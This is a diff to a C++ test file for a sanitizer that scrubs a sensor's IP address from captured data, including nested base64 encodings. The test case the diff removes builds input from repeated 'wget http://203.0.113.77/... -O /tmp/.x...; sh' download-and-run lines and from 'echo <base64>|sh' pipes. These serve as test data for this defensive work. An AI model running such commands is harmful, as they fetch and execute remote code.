@@ -1,12 +1,10 @@
 #include "share/secrecy.hpp"
 
 #include <doctest/doctest.h>
-#include <fmt/format.h>
 
 #include "base/bytes.hpp"
 
 using namespace noroshi;
-using share::kLeftOutMark;
 using share::kSensorMark;
 
 namespace {
@@ -69,23 +67,6 @@ TEST_CASE("a sensor's address is taken out of encodings, and of encodings inside
   CHECK(clean(utf16("\\\\203.0.113.77\\share")).find(utf16("203")) == std::string::npos);
   CHECK(clean("cb00714d") == "00000000");
   CHECK(clean(std::string{"\x01\xcb\x00\x71\x4d\x02", 6}) == std::string{"\x01\x00\x00\x00\x00\x02", 6});
-}
-
-TEST_CASE("a text that is nothing but encodings inside encodings is left out, and large real payloads are not") {
-  auto script = std::string{};
-  for (auto i = 0; script.size() < 100'000; ++i)
-    script += fmt::format("wget http://203.0.113.77/{} -O /tmp/.x{}; sh\n", i, i);
-  auto const plain = clean(script);
-  CHECK(plain.starts_with("wget http://sensor.invalid/0 "));
-  CHECK(plain.find("203.0.113.77") == std::string::npos);
-  auto const binary = std::string(100'000, '\x7f') + "203.0.113.77";
-  CHECK(clean(binary).ends_with(kSensorMark));
-  auto const part = script.substr(0, 30'000);
-  CHECK(clean("echo " + to_base64(part) + "|sh") == "echo " + to_base64(clean(part)) + "|sh");
-  auto const short_part = script.substr(0, 1'000);
-  auto const thrice = [](std::string_view text) { return to_base64(to_base64(to_base64(text))); };
-  CHECK(clean(thrice(short_part)) == thrice(clean(short_part)));
-  CHECK(clean(thrice(part)) == kLeftOutMark);
 }
 
 TEST_CASE("what only looks like a sensor's address stays as it is") {
